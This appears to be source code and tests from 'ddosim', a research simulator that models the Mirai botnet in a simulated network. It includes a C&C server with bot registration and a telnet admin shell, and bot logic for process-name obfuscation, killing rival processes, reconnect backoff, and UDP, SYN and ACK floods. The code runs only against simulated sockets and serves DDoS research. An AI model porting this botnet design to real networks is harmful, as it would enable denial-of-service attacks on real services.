// telnet admin. Bots announce themselves immediately; a human telnet
// session sends nothing until prompted, so a short deadline decides.
func (c *CNC) accept(conn *netsim.TCPConn) {
	var head []byte
	decided := false
	decide := func() {
		if decided {
			return
		}
		decided = true
		if len(head) >= len(botMagic) && bytes.Equal(head[:len(botMagic)], botMagic) {
			c.serveBot(conn, head[len(botMagic):])
			return
		}
		c.serveAdmin(conn, head)
	}
	conn.SetDataHandler(func(data []byte) {
		if decided {
			return // handler replaced by decide(); defensive
		}
		head = append(head, data...)
		if len(head) >= len(botMagic) {
			decide()
		}
	})
	conn.SetCloseHandler(func(error) {})
	c.p.Sched().Schedule(sniffTimeout, decide)
}

// --- Bot side ---

func (c *CNC) serveBot(conn *netsim.TCPConn, rest []byte) {
	var lb lineBuffer
	registered := false
	handle := func(lines []string) {
		for _, line := range lines {
			switch {
			case strings.HasPrefix(line, "arch "):
				if registered {
					continue
				}
				registered = true
				rec := &BotRecord{
					Addr:        conn.RemoteAddr().Addr(),
					Arch:        strings.TrimPrefix(line, "arch "),
					ConnectedAt: c.p.Sched().Now(),
					LastSeen:    c.p.Sched().Now(),
				}
				c.bots[conn] = rec
				c.TotalRegistered++
				c.ctrRegistered.Inc()
				c.trace.Event(rec.ConnectedAt, obs.CatCNC, "bot-registered",
					obs.KV{K: "addr", V: rec.Addr.String()},
					obs.KV{K: "arch", V: rec.Arch})
				if c.cfg.OnBotRegistered != nil {
					c.cfg.OnBotRegistered(rec.Addr, rec.Arch)
				}
				c.maybeReplay(conn, rec)
			case line == "ping":
				if rec, ok := c.bots[conn]; ok {
					rec.LastSeen = c.p.Sched().Now()
				}
				_ = conn.Send([]byte("pong\n"))
			}
		}
	}
	conn.SetDataHandler(func(data []byte) { handle(lb.feed(data)) })
	conn.SetCloseHandler(func(error) {
		if rec, ok := c.bots[conn]; ok {
			delete(c.bots, conn)
			c.ctrLost.Inc()
			c.trace.Event(c.p.Sched().Now(), obs.CatCNC, "bot-lost",
				obs.KV{K: "addr", V: rec.Addr.String()})
			if c.cfg.OnBotLost != nil {
				c.cfg.OnBotLost(rec.Addr)
			}
		}
	})
	if len(rest) > 0 {
		handle(lb.feed(rest))
	}
}

// maybeReplay re-sends the last attack command to a freshly registered
// bot when replay is enabled and the commanded window is still open.
// The duration is trimmed so the rejoiner stops with everyone else.
func (c *CNC) maybeReplay(conn *netsim.TCPConn, rec *BotRecord) {
	if !c.cfg.ReplayAttackCommand || !c.haveCmd {
		return
	}
	now := c.p.Sched().Now()
	until := c.lastCmdAt + sim.Time(c.lastCmd.Duration)*sim.Second
	if now >= until {
		return
	}
	cmd := c.lastCmd
	cmd.Duration = int((until - now + sim.Second - 1) / sim.Second)
	if err := conn.Send([]byte(cmd.Encode())); err != nil {
		return
	}
	c.CommandReplays++
	c.trace.Event(now, obs.CatCNC, "attack-replay",
		obs.KV{K: "addr", V: rec.Addr.String()},
		obs.KV{K: "remaining_s", V: fmt.Sprint(cmd.Duration)})
}

// --- Telnet admin side ---

type adminState int

const (
	adminUser adminState = iota + 1
	adminPass
	adminShell
)

func (c *CNC) serveAdmin(conn *netsim.TCPConn, head []byte) {
	c.AdminSessions++
	var lb lineBuffer
	state := adminUser
	var user string
	_ = conn.Send([]byte("login: "))
	handle := func(lines []string) {
		for _, line := range lines {
			switch state {
			case adminUser:
				user = line
				state = adminPass
				_ = conn.Send([]byte("password: "))
			case adminPass:
				if user == c.cfg.User && line == c.cfg.Pass {
					state = adminShell
					_ = conn.Send([]byte("welcome to the mirai cnc\n> "))
				} else {
					_ = conn.Send([]byte("login failed\n"))
					conn.Close()
					return
				}
			case adminShell:
				c.adminCommand(conn, line)
			}
		}
	}
	conn.SetDataHandler(func(data []byte) { handle(lb.feed(data)) })
	if len(head) > 0 {
		handle(lb.feed(head))
	}
}

func (c *CNC) adminCommand(conn *netsim.TCPConn, line string) {
	fields := strings.Fields(line)
	if len(fields) == 0 {
		_ = conn.Send([]byte("> "))
		return
	}
	switch fields[0] {
	case "botcount":
		_ = conn.Send([]byte(fmt.Sprintf("%d bots connected.\n> ", len(c.bots))))
	case MethodUDPPlain, MethodSYN, MethodACK:
		cmd, err := ParseAttackCommand(line)
		if err != nil {
			_ = conn.Send([]byte(fmt.Sprintf("usage: %s <ip> <port> <secs>\n> ", fields[0])))
			return
		}
		n := c.LaunchAttack(cmd)
		_ = conn.Send([]byte(fmt.Sprintf("attack sent to %d bots\n> ", n)))
	case "exit", "quit":
		_ = conn.Send([]byte("bye\n"))
		conn.Close()
	default:
		_ = conn.Send([]byte("unknown command\n> "))
	}
}
