package mirai

import (
	"fmt"
	"net/netip"

	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// BotConfig is baked into the bot binary by the attacker at build
// time, exactly as Mirai's table.c encodes the C&C endpoint.
type BotConfig struct {
	// CNC is the command-and-control endpoint.
	CNC netip.AddrPort
	// PayloadBytes is the UDP-PLAIN payload size; defaults to Mirai's
	// 512 bytes.
	PayloadBytes int
	// ReconnectDelay is the pause before re-dialing a lost C&C
	// connection. Defaults to 10 s (Mirai retries aggressively).
	ReconnectDelay sim.Time
	// PingPeriod is the keepalive interval. Defaults to 60 s.
	PingPeriod sim.Time
	// StartJitter models host task queuing on the shared emulation
	// machine: each bot begins flooding a uniformly-random delay in
	// [0, StartJitter] after receiving the command. Zero starts
	// immediately. (See DESIGN.md — this is the mechanism behind the
	// paper's Fig. 3 duration effect and Table I attack-time
	// inflation.)
	StartJitter sim.Time
	// Scan configures the telnet scanner module — the self-spreading
	// credential-attack vector. Disabled by default; the paper's
	// experiment series recruits through memory errors instead.
	Scan ScanConfig
	// OnAttackStart observes each bot's first flood packet instant.
	OnAttackStart func(addr netip.Addr)
}

// Bot is the Mirai bot process behaviour.
type Bot struct {
	cfg BotConfig
	p   *container.Process

	conn      *netsim.TCPConn
	connected bool
	attacking bool
	flood     *floodState
	scanner   *Scanner

	// Counters for tests.
	Reconnects   int
	RivalsKilled int
	CommandsSeen int
}

type floodState struct {
	method   string
	dst      netip.AddrPort
	until    sim.Time
	interval sim.Time
	sock     *netsim.UDPSocket
	sent     uint64
}

var _ container.Behavior = (*Bot)(nil)

// NewBot creates the behaviour.
func NewBot(cfg BotConfig) *Bot {
	if cfg.PayloadBytes <= 0 {
		cfg.PayloadBytes = DefaultUDPPlainPayload
	}
	if cfg.ReconnectDelay <= 0 {
		cfg.ReconnectDelay = 10 * sim.Second
	}
	if cfg.PingPeriod <= 0 {
		cfg.PingPeriod = 60 * sim.Second
	}
	return &Bot{cfg: cfg}
}

// BotFactory adapts NewBot to the binary registry; the attacker
// registers it under the name "mirai" with the C&C address baked in.
func BotFactory(cfg BotConfig) container.BehaviorFactory {
	return func(args []string) container.Behavior { return NewBot(cfg) }
}

// Name implements container.Behavior.
func (b *Bot) Name() string { return "mirai" }

// Attacking reports whether the flood engine is live.
func (b *Bot) Attacking() bool { return b.attacking }

// Connected reports whether the C&C session is established.
func (b *Bot) Connected() bool { return b.connected }

// PacketsSent reports flood packets emitted so far.
func (b *Bot) PacketsSent() uint64 {
	if b.flood == nil {
		return 0
	}
	return b.flood.sent
}

// Start implements container.Behavior: hide, fortify, phone home.
func (b *Bot) Start(p *container.Process) {
	b.p = p

	// Obfuscate the process name, as Mirai does with PR_SET_NAME and
	// argv scribbling.
	title := make([]byte, 10)
	for i := range title {
		title[i] = byte('a' + p.RNG().Intn(26))
	}
	p.SetTitle(string(title))
	p.SetTag("malware", "mirai")

	b.killRivals()
	if b.cfg.Scan.Enabled {
		b.scanner = NewScanner(p, b.cfg.Scan)
		b.scanner.Start()
	}
	b.dial()
}

// Scanner exposes the bot's scanner module, nil when disabled.
func (b *Bot) Scanner() *Scanner { return b.scanner }

// Stop implements container.Behavior.
func (b *Bot) Stop(*container.Process) {
	b.attacking = false
	b.connected = false
}

// killRivals terminates competing DDoS malware and whatever holds TCP
// 22/23, mirroring Mirai's killer module.
func (b *Bot) killRivals() {
	self := b.ownPID()
	for _, proc := range b.p.Container().Procs() {
		if proc.PID() == self {
			continue
		}
		rivalMalware := proc.Tag("malware") != "" && proc.Tag("malware") != "mirai"
		holdsPorts := proc.HasTCPPort(22) || proc.HasTCPPort(23)
		if rivalMalware || holdsPorts {
			b.p.Logf("mirai: killing rival pid %d (%s)", proc.PID(), proc.Title())
			b.p.Container().Kill(proc.PID())
			b.RivalsKilled++
		}
	}
}

func (b *Bot) ownPID() int {
	return b.p.PID()
}

// dial connects to the C&C, retrying forever — a churned-out Dev that
// rejoins the network reconnects through this path.
func (b *Bot) dial() {
	if !b.p.Alive() {
		return
	}
	b.conn = b.p.DialTCP(b.cfg.CNC, func(c *netsim.TCPConn, err error) {
		if err != nil {
			b.scheduleReconnect()
			return
		}
		b.onConnected(c)
	})
}

func (b *Bot) scheduleReconnect() {
	if !b.p.Alive() {
		return
	}
	b.Reconnects++
	b.p.Sched().Schedule(b.cfg.ReconnectDelay, b.dial)
}

func (b *Bot) onConnected(c *netsim.TCPConn) {
	b.connected = true
	var lb lineBuffer
	c.SetDataHandler(func(data []byte) {
		for _, line := range lb.feed(data) {
			b.onLine(line)
		}
	})
	c.SetCloseHandler(func(error) {
		b.connected = false
		b.scheduleReconnect()
	})
	_ = c.Send(botMagic)
	_ = c.Send([]byte("arch " + b.p.Container().Arch() + "\n"))

	ping := b.p.NewTicker(b.cfg.PingPeriod, func() {
		if b.connected {
			_ = c.Send([]byte("ping\n"))
		}
	})
	ping.Start()
}

func (b *Bot) onLine(line string) {
	if line == "pong" {
		return
	}
	cmd, err := ParseAttackCommand(line)
	if err != nil {
		return
	}
	b.CommandsSeen++
	b.startAttack(cmd)
}

// startAttack runs the ordered flood, paced at the device's own line
// rate so the Dev's uplink is saturated for the commanded duration
// (Mirai floods as fast as the interface allows). UDP-PLAIN carries
// PayloadBytes of padding; SYN and ACK floods are header-only crafted
// segments with randomized source ports and sequence numbers.
func (b *Bot) startAttack(cmd AttackCommand) {
	dst := netip.AddrPortFrom(cmd.Target, cmd.Port)
	rate := b.p.Node().DefaultDevice().Rate()

	f := &floodState{method: cmd.Method, dst: dst}
	var wireSize int
	switch cmd.Method {
	case MethodUDPPlain:
		sock, err := b.p.BindUDP(0, nil)
		if err != nil {
			b.p.Logf("mirai: flood socket: %v", err)
			return
		}
		f.sock = sock
		wireSize = (&netsim.Packet{Proto: netsim.ProtoUDP, Dst: dst, Pad: b.cfg.PayloadBytes}).Size()
	case MethodSYN, MethodACK:
		wireSize = (&netsim.Packet{Proto: netsim.ProtoTCP, Dst: dst, TCP: &netsim.TCPHeader{}}).Size()
	default:
		b.p.Logf("mirai: unknown method %q", cmd.Method)
		return
	}
	f.interval = rate.TxTime(wireSize)

	delay := sim.Time(0)
	if b.cfg.StartJitter > 0 {
		delay = sim.Time(b.p.RNG().Int63n(int64(b.cfg.StartJitter)))
	}
	start := b.p.Sched().Now() + delay
	f.until = start + sim.Time(cmd.Duration)*sim.Second
	b.flood = f
	b.p.Sched().ScheduleAt(start, func() {
		if !b.p.Alive() {
			return
		}
		b.attacking = true
		if b.cfg.OnAttackStart != nil {
			b.cfg.OnAttackStart(b.p.Node().Addr4())
		}
		b.floodNext()
	})
}

func (b *Bot) floodNext() {
	f := b.flood
	if f == nil || !b.p.Alive() || b.p.Sched().Now() >= f.until {
		b.attacking = false
		return
	}
	switch f.method {
	case MethodUDPPlain:
		f.sock.SendPadded(f.dst, nil, b.cfg.PayloadBytes)
	case MethodSYN:
		b.sendRawTCP(f.dst, netsim.FlagSYN)
	case MethodACK:
		b.sendRawTCP(f.dst, netsim.FlagACK)
	}
	f.sent++
	b.p.Sched().Schedule(f.interval, b.floodNext)
}

// sendRawTCP injects a crafted header-only segment with a randomized
// source port and sequence number — Mirai's syn/ack attack modules
// bypass the OS stack the same way.
func (b *Bot) sendRawTCP(dst netip.AddrPort, flags netsim.TCPFlags) {
	node := b.p.Node()
	src := node.Addr4()
	if dst.Addr().Is6() {
		src = node.Addr6()
	}
	rng := b.p.RNG()
	pkt := node.AllocPacket()
	pkt.UID = node.NextUID()
	pkt.Proto = netsim.ProtoTCP
	pkt.Src = netip.AddrPortFrom(src, uint16(1024+rng.Intn(64000)))
	pkt.Dst = dst
	pkt.SetTCP(flags, uint32(rng.Int63()), 0)
	node.SendPacket(pkt)
}

// String aids debugging.
func (b *Bot) String() string {
	return fmt.Sprintf("mirai-bot(connected=%v attacking=%v)", b.connected, b.attacking)
}
