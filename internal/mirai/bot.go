package mirai

import (
	"fmt"
	"net/netip"

	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// BotConfig is baked into the bot binary by the attacker at build
// time, exactly as Mirai's table.c encodes the C&C endpoint.
type BotConfig struct {
	// CNC is the command-and-control endpoint.
	CNC netip.AddrPort
	// PayloadBytes is the UDP-PLAIN payload size; defaults to Mirai's
	// 512 bytes.
	PayloadBytes int
	// ReconnectDelay is the base pause before re-dialing a lost C&C
	// connection. Defaults to 10 s (Mirai retries aggressively).
	// Consecutive failures back the delay off exponentially, capped at
	// MaxReconnectDelay, and every attempt adds a uniformly-random
	// jitter in [0, ReconnectDelay) drawn from the bot's own RNG
	// stream — without it a C&C outage synchronizes the whole fleet
	// into a lock-step reconnect herd.
	ReconnectDelay sim.Time
	// MaxReconnectDelay caps the backoff. Defaults to 4x ReconnectDelay.
	MaxReconnectDelay sim.Time
	// PingPeriod is the keepalive interval. Defaults to 60 s.
	PingPeriod sim.Time
	// StartJitter models host task queuing on the shared emulation
	// machine: each bot begins flooding a uniformly-random delay in
	// [0, StartJitter] after receiving the command. Zero starts
	// immediately. (See DESIGN.md — this is the mechanism behind the
	// paper's Fig. 3 duration effect and Table I attack-time
	// inflation.)
	StartJitter sim.Time
	// Scan configures the telnet scanner module — the self-spreading
	// credential-attack vector. Disabled by default; the paper's
	// experiment series recruits through memory errors instead.
	Scan ScanConfig
	// OnAttackStart observes each bot's first flood packet instant.
	OnAttackStart func(addr netip.Addr)
}

// Bot is the Mirai bot process behaviour.
type Bot struct {
	cfg BotConfig
	p   *container.Process

	conn      *netsim.TCPConn
	connected bool
	flood     *Flooder
	ping      *sim.Ticker
	scanner   *Scanner
	// dialFails counts consecutive failed (re)connect attempts; it
	// drives the capped exponential backoff and resets on success.
	dialFails int

	// Counters for tests.
	Reconnects   int
	RivalsKilled int
	CommandsSeen int
}

var _ container.Behavior = (*Bot)(nil)

// NewBot creates the behaviour.
func NewBot(cfg BotConfig) *Bot {
	if cfg.PayloadBytes <= 0 {
		cfg.PayloadBytes = DefaultUDPPlainPayload
	}
	if cfg.ReconnectDelay <= 0 {
		cfg.ReconnectDelay = 10 * sim.Second
	}
	if cfg.MaxReconnectDelay <= 0 {
		cfg.MaxReconnectDelay = 4 * cfg.ReconnectDelay
	}
	if cfg.PingPeriod <= 0 {
		cfg.PingPeriod = 60 * sim.Second
	}
	return &Bot{cfg: cfg}
}

// BotFactory adapts NewBot to the binary registry; the attacker
// registers it under the name "mirai" with the C&C address baked in.
func BotFactory(cfg BotConfig) container.BehaviorFactory {
	return func(args []string) container.Behavior { return NewBot(cfg) }
}

// Name implements container.Behavior.
func (b *Bot) Name() string { return "mirai" }

// Attacking reports whether the flood engine is live.
func (b *Bot) Attacking() bool { return b.flood != nil && b.flood.Attacking() }

// Connected reports whether the C&C session is established.
func (b *Bot) Connected() bool { return b.connected }

// PacketsSent reports flood packets emitted so far.
func (b *Bot) PacketsSent() uint64 {
	if b.flood == nil {
		return 0
	}
	return b.flood.Sent()
}

// Start implements container.Behavior: hide, fortify, phone home.
func (b *Bot) Start(p *container.Process) {
	b.p = p
	b.flood = NewFlooder(p, b.cfg.PayloadBytes)

	// Obfuscate the process name, as Mirai does with PR_SET_NAME and
	// argv scribbling.
	title := make([]byte, 10)
	for i := range title {
		title[i] = byte('a' + p.RNG().Intn(26))
	}
	p.SetTitle(string(title))
	p.SetTag("malware", "mirai")

	b.killRivals()
	if b.cfg.Scan.Enabled {
		b.scanner = NewScanner(p, b.cfg.Scan)
		b.scanner.Start()
	}
	b.dial()
}

// Scanner exposes the bot's scanner module, nil when disabled.
func (b *Bot) Scanner() *Scanner { return b.scanner }

// Stop implements container.Behavior.
func (b *Bot) Stop(*container.Process) {
	if b.flood != nil {
		b.flood.Stop()
	}
	b.connected = false
}

// killRivals terminates competing DDoS malware and whatever holds TCP
// 22/23, mirroring Mirai's killer module.
func (b *Bot) killRivals() {
	self := b.ownPID()
	for _, proc := range b.p.Container().Procs() {
		if proc.PID() == self {
			continue
		}
		rivalMalware := proc.Tag("malware") != "" && proc.Tag("malware") != "mirai"
		holdsPorts := proc.HasTCPPort(22) || proc.HasTCPPort(23)
		if rivalMalware || holdsPorts {
			b.p.Logf("mirai: killing rival pid %d (%s)", proc.PID(), proc.Title())
			b.p.Container().Kill(proc.PID())
			b.RivalsKilled++
		}
	}
}

func (b *Bot) ownPID() int {
	return b.p.PID()
}

// dial connects to the C&C, retrying forever — a churned-out Dev that
// rejoins the network reconnects through this path.
func (b *Bot) dial() {
	if !b.p.Alive() {
		return
	}
	b.conn = b.p.DialTCP(b.cfg.CNC, func(c *netsim.TCPConn, err error) {
		if err != nil {
			b.scheduleReconnect()
			return
		}
		b.onConnected(c)
	})
}

// reconnectDelay computes the next re-dial pause: the base delay backed
// off exponentially per consecutive failure (capped), plus per-bot
// jitter from the bot's deterministic RNG stream. Fixed delays would
// herd every bot severed by the same C&C outage into simultaneous
// re-dials — the classic reconnect-storm bug.
func (b *Bot) reconnectDelay() sim.Time {
	d := b.cfg.ReconnectDelay
	for i := 0; i < b.dialFails && d < b.cfg.MaxReconnectDelay; i++ {
		d *= 2
	}
	if d > b.cfg.MaxReconnectDelay {
		d = b.cfg.MaxReconnectDelay
	}
	return d + sim.Time(b.p.RNG().Int63n(int64(b.cfg.ReconnectDelay)))
}

func (b *Bot) scheduleReconnect() {
	if !b.p.Alive() {
		return
	}
	b.Reconnects++
	b.dialFails++
	b.p.Sched().Schedule(b.reconnectDelay(), b.dial)
}

func (b *Bot) onConnected(c *netsim.TCPConn) {
	b.connected = true
	b.dialFails = 0
	var lb lineBuffer
	c.SetDataHandler(func(data []byte) {
		for _, line := range lb.feed(data) {
			b.onLine(line)
		}
	})
	c.SetCloseHandler(func(error) {
		b.connected = false
		// The keepalive belongs to this session: without the stop, every
		// reconnect would stack one more live ticker firing forever.
		if b.ping != nil {
			b.ping.Stop()
		}
		b.scheduleReconnect()
	})
	_ = c.Send(botMagic)
	_ = c.Send([]byte("arch " + b.p.Container().Arch() + "\n"))

	if b.ping == nil {
		b.ping = b.p.NewTicker(b.cfg.PingPeriod, func() {
			if b.connected {
				_ = b.conn.Send([]byte("ping\n"))
			}
		})
	}
	b.ping.Start()
}

func (b *Bot) onLine(line string) {
	if line == "pong" {
		return
	}
	cmd, err := ParseAttackCommand(line)
	if err != nil {
		return
	}
	b.CommandsSeen++
	b.startAttack(cmd)
}

// startAttack runs the ordered flood through the shared engine, paced
// at the device's own line rate so the Dev's uplink is saturated for
// the commanded duration (Mirai floods as fast as the interface
// allows).
func (b *Bot) startAttack(cmd AttackCommand) {
	dst := netip.AddrPortFrom(cmd.Target, cmd.Port)
	var onStart func()
	if b.cfg.OnAttackStart != nil {
		hook, addr := b.cfg.OnAttackStart, b.p.Node().Addr4()
		onStart = func() { hook(addr) }
	}
	b.flood.LaunchFor(cmd.Method, dst, cmd.Duration, b.cfg.StartJitter, onStart)
}

// String aids debugging.
func (b *Bot) String() string {
	return fmt.Sprintf("mirai-bot(connected=%v attacking=%v)", b.connected, b.Attacking())
}
