package mirai

import (
	"net/netip"
	"testing"

	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

func TestSYNFloodViaBot(t *testing.T) {
	r := newRig(t)
	attacker, cnc := r.spawnCNC(t, CNCConfig{})
	tserver := r.star.AttachHost("tserver", 100*netsim.Mbps, sim.Millisecond, 0)
	sink, err := netsim.InstallSink(tserver, 80)
	if err != nil {
		t.Fatal(err)
	}
	_, bot := r.spawnBot(t, "dev-1", BotConfig{
		CNC: netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort),
	}, 300*netsim.Kbps)
	if err := r.sched.Run(5 * sim.Second); err != nil {
		t.Fatal(err)
	}
	cnc.LaunchAttack(AttackCommand{Method: MethodSYN, Target: tserver.Addr4(), Port: 80, Duration: 10})
	if err := r.sched.Run(30 * sim.Second); err != nil {
		t.Fatal(err)
	}
	if bot.PacketsSent() == 0 {
		t.Fatal("no SYN packets sent")
	}
	if sink.BytesByProto(netsim.ProtoTCP) == 0 {
		t.Fatal("no TCP bytes observed")
	}
	if bot.String() == "" {
		t.Fatal("empty bot String")
	}
	// The sink's node answered orphan SYNs with RSTs (backscatter);
	// the bot's node absorbed them without crashing anything.
	if tserver.LocalDrops() != 0 {
		// SYNs are consumed by the TCP demux (RST path), not dropped.
		t.Fatalf("tserver local drops = %d", tserver.LocalDrops())
	}
}

func TestFactories(t *testing.T) {
	if b := BotFactory(BotConfig{})(nil); b.Name() != "mirai" {
		t.Fatal("BotFactory")
	}
	if b := CNCFactory(CNCConfig{})(nil); b.Name() != "cnc" {
		t.Fatal("CNCFactory")
	}
	if b := LoaderFactory(LoaderConfig{})(nil); b.Name() != "scanListen" {
		t.Fatal("LoaderFactory")
	}
}

func TestScannerStopHaltsProbes(t *testing.T) {
	r := newRig(t)
	img := &container.Image{
		Name: "ddosim/lone", Tag: "t", Arch: "x86_64",
		Files: map[string][]byte{}, ExecPaths: map[string]bool{},
	}
	r.engine.RegisterImage(img)
	c, err := r.engine.Create(img.Ref(), "lone-scanner", r.link(500*netsim.Kbps))
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	var sc *Scanner
	c.Spawn(&scannerBehavior{cfg: ScanConfig{
		Enabled:  true,
		Prefix:   netip.MustParsePrefix("10.0.0.0/28"),
		Period:   sim.Second,
		ReportTo: netip.MustParseAddrPort("10.0.0.250:48101"),
	}, out: &sc})
	if err := r.sched.Run(10 * sim.Second); err != nil {
		t.Fatal(err)
	}
	if sc.Probes == 0 {
		t.Fatal("no probes before Stop")
	}
	// Killing the owning process stops the scan ticker.
	probes := sc.Probes
	c.Stop()
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if sc.Probes != probes {
		t.Fatalf("probes kept running after container stop: %d -> %d", probes, sc.Probes)
	}
}
