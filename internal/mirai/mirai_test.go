package mirai

import (
	"net/netip"
	"strings"
	"testing"

	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

type rig struct {
	sched  *sim.Scheduler
	star   *netsim.Star
	engine *container.Engine
}

func newRig(t testing.TB) *rig {
	t.Helper()
	sched := sim.NewScheduler(21)
	w := netsim.New(sched)
	star := netsim.NewStar(w)
	return &rig{sched: sched, star: star, engine: container.NewEngine(sched, star)}
}

func (r *rig) link(rate netsim.DataRate) container.LinkConfig {
	return container.LinkConfig{Rate: rate, Delay: sim.Millisecond}
}

// spawnCNC creates the attacker container running a CNC and returns
// both.
func (r *rig) spawnCNC(t testing.TB, cfg CNCConfig) (*container.Container, *CNC) {
	t.Helper()
	img := &container.Image{
		Name: "ddosim/attacker", Tag: "t", Arch: "x86_64",
		Files:     map[string][]byte{"/usr/bin/cnc": container.BinaryContent("cnc", "x86_64")},
		ExecPaths: map[string]bool{"/usr/bin/cnc": true},
	}
	r.engine.RegisterImage(img)
	var cnc *CNC
	r.engine.RegisterBinary("cnc", func(args []string) container.Behavior {
		cnc = NewCNC(cfg)
		return cnc
	})
	c, err := r.engine.Create("ddosim/attacker:t", "attacker", r.link(100*netsim.Mbps))
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	if _, err := c.ExecFile("/usr/bin/cnc", nil); err != nil {
		t.Fatal(err)
	}
	return c, cnc
}

// spawnBot creates a victim container and runs a bot inside it.
func (r *rig) spawnBot(t testing.TB, name string, cfg BotConfig, rate netsim.DataRate) (*container.Container, *Bot) {
	t.Helper()
	ref := "ddosim/victim-" + name + ":t"
	img := &container.Image{
		Name: "ddosim/victim-" + name, Tag: "t", Arch: "x86_64",
		Files: map[string][]byte{}, ExecPaths: map[string]bool{},
	}
	r.engine.RegisterImage(img)
	c, err := r.engine.Create(ref, name, r.link(rate))
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	bot := NewBot(cfg)
	c.Spawn(bot)
	return c, bot
}

func TestBotRegistersWithCNC(t *testing.T) {
	r := newRig(t)
	var regAddr netip.Addr
	var regArch string
	attacker, cnc := r.spawnCNC(t, CNCConfig{
		OnBotRegistered: func(a netip.Addr, arch string) { regAddr, regArch = a, arch },
	})
	victim, bot := r.spawnBot(t, "dev-1", BotConfig{
		CNC: netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort),
	}, 500*netsim.Kbps)

	if err := r.sched.Run(30 * sim.Second); err != nil {
		t.Fatal(err)
	}
	if cnc.BotCount() != 1 {
		t.Fatalf("bot count = %d", cnc.BotCount())
	}
	if !bot.Connected() {
		t.Fatal("bot not connected")
	}
	if regAddr != victim.Node().Addr4() || regArch != "x86_64" {
		t.Fatalf("registered %v/%s", regAddr, regArch)
	}
	bots := cnc.Bots()
	if len(bots) != 1 || bots[0].Arch != "x86_64" {
		t.Fatalf("registry = %+v", bots)
	}
}

func TestBotObfuscatesTitle(t *testing.T) {
	r := newRig(t)
	attacker, _ := r.spawnCNC(t, CNCConfig{})
	victim, _ := r.spawnBot(t, "dev-1", BotConfig{
		CNC: netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort),
	}, 500*netsim.Kbps)
	procs := victim.Procs()
	if len(procs) != 1 {
		t.Fatalf("procs = %d", len(procs))
	}
	if procs[0].Title() == "mirai" {
		t.Fatal("process title not obfuscated")
	}
	if len(procs[0].Title()) != 10 {
		t.Fatalf("title = %q", procs[0].Title())
	}
}

// rivalBehavior mimics another malware family or daemon bound to a
// port Mirai claims.
type rivalBehavior struct {
	port   uint16
	killed bool
}

func (rb *rivalBehavior) Name() string { return "qbot" }
func (rb *rivalBehavior) Start(p *container.Process) {
	p.SetTag("malware", "qbot")
	if _, err := p.ListenTCP(rb.port, func(*netsim.TCPConn) {}); err != nil {
		p.Logf("rival listen: %v", err)
	}
}
func (rb *rivalBehavior) Stop(*container.Process) { rb.killed = true }

func TestBotKillsRivalsAndPortHolders(t *testing.T) {
	r := newRig(t)
	attacker, _ := r.spawnCNC(t, CNCConfig{})

	img := &container.Image{Name: "ddosim/victim-kill", Tag: "t", Arch: "x86_64",
		Files: map[string][]byte{}, ExecPaths: map[string]bool{}}
	r.engine.RegisterImage(img)
	c, err := r.engine.Create("ddosim/victim-kill:t", "victim", r.link(500*netsim.Kbps))
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	rival := &rivalBehavior{port: 22}
	c.Spawn(rival)

	telnetd := &rivalBehavior{port: 23}
	tp := c.Spawn(telnetd)
	tp.SetTag("malware", "") // plain telnetd: killed for holding port 23

	bot := NewBot(BotConfig{CNC: netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort)})
	c.Spawn(bot)

	if !rival.killed || !telnetd.killed {
		t.Fatalf("rival killed=%v telnetd killed=%v", rival.killed, telnetd.killed)
	}
	if bot.RivalsKilled != 2 {
		t.Fatalf("RivalsKilled = %d", bot.RivalsKilled)
	}
	if len(c.Procs()) != 1 {
		t.Fatalf("process table = %d entries, want only the bot", len(c.Procs()))
	}
}

func TestUDPPlainFloodReachesTarget(t *testing.T) {
	r := newRig(t)
	attacker, cnc := r.spawnCNC(t, CNCConfig{})
	tserver := r.star.AttachHost("tserver", 100*netsim.Mbps, sim.Millisecond, 0)
	sink, err := netsim.InstallSink(tserver, 80)
	if err != nil {
		t.Fatal(err)
	}
	_, bot := r.spawnBot(t, "dev-1", BotConfig{
		CNC: netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort),
	}, 500*netsim.Kbps)

	if err := r.sched.Run(5 * sim.Second); err != nil {
		t.Fatal(err)
	}
	n := cnc.LaunchAttack(AttackCommand{
		Method: MethodUDPPlain, Target: tserver.Addr4(), Port: 80, Duration: 10,
	})
	if n != 1 {
		t.Fatalf("attack sent to %d bots", n)
	}
	if err := r.sched.Run(30 * sim.Second); err != nil {
		t.Fatal(err)
	}
	if bot.CommandsSeen != 1 {
		t.Fatalf("bot saw %d commands", bot.CommandsSeen)
	}
	if bot.PacketsSent() == 0 {
		t.Fatal("no flood packets sent")
	}
	if sink.RxPackets() == 0 {
		t.Fatal("sink received nothing")
	}
	// A 500 kbps uplink flooding 512-byte payloads for 10 s delivers
	// roughly 500kbit*10 = 625 KB of payload; verify the order of
	// magnitude (headers shave a bit).
	total := sink.Series().TotalBytes()
	if total < 400_000 || total > 700_000 {
		t.Fatalf("sink got %d bytes, want ~600KB", total)
	}
	if bot.Attacking() {
		t.Fatal("flood still running after duration")
	}
}

func TestFloodPacedAtLineRate(t *testing.T) {
	r := newRig(t)
	attacker, cnc := r.spawnCNC(t, CNCConfig{})
	tserver := r.star.AttachHost("tserver", 100*netsim.Mbps, sim.Millisecond, 0)
	sink, err := netsim.InstallSink(tserver, 80)
	if err != nil {
		t.Fatal(err)
	}
	// Two bots with different rates: received shares must differ
	// accordingly.
	v1, _ := r.spawnBot(t, "slow", BotConfig{CNC: netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort)}, 100*netsim.Kbps)
	v2, _ := r.spawnBot(t, "fast", BotConfig{CNC: netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort)}, 400*netsim.Kbps)
